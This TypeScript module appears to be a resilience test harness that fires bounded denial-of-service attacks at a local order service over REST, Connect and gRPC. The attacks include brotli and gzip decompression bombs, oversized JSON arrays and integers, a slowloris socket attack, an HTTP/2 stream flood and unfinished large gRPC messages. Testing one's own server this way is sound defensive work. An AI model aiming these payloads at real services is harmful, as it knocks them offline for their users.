import { connect as connectHttp2 } from "node:http2";
import { connect } from "node:net";
import { setTimeout as sleep } from "node:timers/promises";
import { brotliCompressSync, gzipSync } from "node:zlib";
import { Client, credentials, Metadata, type ServiceError } from "@grpc/grpc-js";

/** The server that is attacked. */
export interface Target {
  readonly httpUrl: string;
  readonly grpcAddress: string;
  readonly adminKey: string;
}

/** What a hostile caller does, in bounded time and number. Resolves with how it was answered. */
export type Attack = (target: Target) => Promise<string>;

const mib = 1024 * 1024;
const json = { "content-type": "application/json" };
const withKey = ({ adminKey }: Target) => ({ authorization: `Bearer ${adminKey}` });

/** The most elements that 4 MiB hold. */
const emptyLines = Buffer.from(`{"lineItems":[${"{},".repeat(1_398_000)}{}]}`);
const digits = Buffer.from(`{"pageSize":${"9".repeat(4_000_000)}}`);

export const attacks: Readonly<Record<string, Attack>> = {
  "empty lines in brotli, REST, with a key": (target) =>
    post(target, "/v1/orders", brotliCompressSync(emptyLines), { ...withKey(target), "content-encoding": "br" }),
  "empty lines in brotli, Connect, with a key": (target) =>
    post(target, "/docket.order.v1.OrderService/CreateOrder", brotliCompressSync(nested(emptyLines)), {
      ...withKey(target),
      "content-encoding": "br",
    }),
  "empty lines, gRPC, with a key": (target) =>
    // Field 1 (order) of CreateOrderRequest, in it field 7 (line_items) with nothing in it, again and again.
    grpc(
      target,
      "/docket.order.v1.OrderService/CreateOrder",
      inField(1, Buffer.alloc(4 * mib - 16, Buffer.from([0x3a, 0]))),
    ),
  "4 MB of empty names to BatchGetOrders, Connect, with a key": (target) =>
    post(
      target,
      "/docket.order.v1.OrderService/BatchGetOrders",
      Buffer.from(`{"names":[${'"",'.repeat(1_330_000)}""]}`),
      withKey(target),
    ),
  "an integer of 4 million digits in brotli, Connect, without a key": (target) =>
    post(target, "/docket.order.v1.OrderService/ListOrders", brotliCompressSync(digits), { "content-encoding": "br" }),
  "4 MiB of blanks in gzip, Connect, without a key": (target) =>
    post(target, "/docket.order.v1.OrderService/ListOrders", gzipSync(Buffer.alloc(4 * mib, " ")), {
      "content-encoding": "gzip",
    }),
  "50 unsigned carrier callbacks of 1 MiB": async (target) => {
    const body = Buffer.alloc(mib - 1024, "x");
    return tally(range(50).map(() => post(target, "/v1/webhooks/carriers/sandbox", body, {})));
  },
  "150 bodies at a byte a second, for 60 s": async ({ httpUrl }) => {
    const head =
      "POST /v1/orders HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 3000000\r\n\r\n";
    let cut = 0;
    const sockets = range(150).map(() => {
      const socket = connect(Number(new URL(httpUrl).port), "127.0.0.1");
      socket.write(head);
      socket.on("error", () => undefined).on("close", () => (cut += 1));
      return socket.resume();
    });
    for (let second = 0; second < 60 && cut < sockets.length; second += 1) {
      for (const socket of sockets) if (!socket.destroyed) socket.write("x");
      await sleep(1000);
    }
    const byServer = cut;
    for (const socket of sockets) socket.destroy();
    return `${byServer} of ${sockets.length} ended by the server`;
  },
  "50,000 gRPC streams on one connection": async (target) => {
    const session = connectHttp2(`http://${target.grpcAddress}`);
    session.on("error", () => undefined);
    let refused = 0;
    for (let at = 0; at < 50_000 && !session.destroyed; at += 1) {
      const stream = session.request({
        ":method": "POST",
        ":path": "/docket.order.v1.OrderService/WatchOrders",
        "content-type": "application/grpc",
        ...withKey(target),
      });
      stream.on("error", () => (refused += 1));
      stream.on("end", () => (refused += 1)).resume();
      if (at % 1000 === 0) await sleep(5);
    }
    await sleep(2000);
    session.destroy();
    return `${refused} refused or ended`;
  },
  "60 unfinished gRPC messages of 8 MB on one connection": async (target) => {
    const session = connectHttp2(`http://${target.grpcAddress}`);
    session.on("error", () => undefined);
    let refused = 0;
    const head = Buffer.from([0, 0, 0x80, 0, 0]);
    for (const _ of range(60)) {
      const stream = session.request({
        ":method": "POST",
        ":path": "/docket.order.v1.OrderService/CreateOrder",
        "content-type": "application/grpc",
        ...withKey(target),
      });
      stream.on("error", () => (refused += 1));
      stream.on("end", () => (refused += 1)).resume();
      stream.write(head);
      stream.write(Buffer.alloc(8 * mib - 100));
    }
    await sleep(5000);
    session.destroy();
    return `${refused} refused or ended`;
  },
  "an import of 100,000 rows in gzip": (target) => {
    const rows = "EUR,c,N,L,C,DE,X,1\n".repeat(100_000);
    const body = gzipSync(
      `currency_code,customer_id,recipient,address_lines,locality,region_code,sku,quantity\n${rows}`,
    );
    return post(target, "/v1/orders:import", body, {
      ...withKey(target),
      "content-type": "text/csv",
      "content-encoding": "gzip",
    });
  },
};

function range(count: number): number[] {
  return Array.from({ length: count }, (_, at) => at);
}

function nested(order: Buffer): Buffer {
  return Buffer.concat([Buffer.from('{"order":'), order, Buffer.from("}")]);
}

function inField(number: number, value: Buffer): Buffer {
  const length: number[] = [];
  for (let rest = value.length; ; rest >>>= 7) {
    length.push((rest & 127) | (rest > 127 ? 128 : 0));
    if (rest <= 127) break;
  }
  return Buffer.concat([Buffer.from([(number << 3) | 2, ...length]), value]);
}

async function post(
  { httpUrl }: Target,
  path: string,
  body: Buffer,
  headers: Readonly<Record<string, string>>,
): Promise<string> {
  try {
    const response = await fetch(`${httpUrl}${path}`, {
      method: "POST",
      body: new Uint8Array(body),
      headers: { ...json, ...headers },
      signal: AbortSignal.timeout(120_000),
    });
    const { byteLength: length } = await response.arrayBuffer();
    return `HTTP ${response.status}, ${length} bytes`;
  } catch (error) {
    return `no response (${error instanceof Error ? (error.cause ?? error.message) : error})`;
  }
}

function grpc(target: Target, path: string, body: Buffer): Promise<string> {
  const client = new Client(target.grpcAddress, credentials.createInsecure());
  const metadata = new Metadata();
  metadata.set("authorization", `Bearer ${target.adminKey}`);
  const asIs = (bytes: Buffer) => bytes;
  return new Promise((resolve) => {
    const deadline = Date.now() + 120_000;
    client.makeUnaryRequest(path, asIs, asIs, body, metadata, { deadline }, (error: ServiceError | null) => {
      client.close();
      resolve(error === null ? "OK" : `code ${error.code}, ${error.details.length} characters`);
    });
  });
}

async function tally(outcomes: readonly Promise<string>[]): Promise<string> {
  const counts = new Map<string, number>();
  for (const outcome of await Promise.all(outcomes)) counts.set(outcome, (counts.get(outcome) ?? 0) + 1);
  return [...counts].map(([outcome, count]) => `${count} × ${outcome}`).join("; ");
}
